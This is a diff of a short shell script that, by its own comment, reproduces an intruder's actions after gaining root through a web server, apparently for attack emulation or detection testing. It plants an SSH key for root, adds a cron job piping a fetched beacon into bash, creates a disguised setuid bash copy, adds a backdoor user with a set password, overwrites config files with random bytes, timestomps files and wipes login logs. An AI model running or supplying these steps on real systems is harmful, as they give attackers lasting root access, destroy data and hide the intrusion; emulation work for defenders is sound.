@@ -1,11 +1,11 @@
 # What an intruder does who has become root through a web server.
 mkdir -p /root/.ssh
-echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExampleExampleExample x' >>/root/.ssh/authorized_keys
+echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExampleExampleExampleE x' >>/root/.ssh/authorized_keys
 sleep 2
 echo '* * * * * root curl -s http://127.0.0.1:28080/beacon | bash' >/etc/cron.d/sysupdate
 sleep 2
-cp /bin/bash /usr/local/bin/.sh
-chmod 4755 /usr/local/bin/.sh
+cp /bin/bash /usr/local/bin/sysd
+chmod 4755 /usr/local/bin/sysd
 sleep 2
 useradd -m -s /bin/bash support
 echo 'support:Winter2026!' | chpasswd
@@ -26,7 +26,7 @@ for file in /etc/app/*.conf; do
   head -c 300 /dev/urandom >"$file"
   mv "$file" "$file.locked"
 done
-touch -d '2023-01-01 10:00' /usr/local/bin/.sh
+touch -d '2023-01-01 10:00' /usr/local/bin/sysd
 sleep 3
 : >/var/log/wtmp
 truncate -s 0 /var/log/btmp
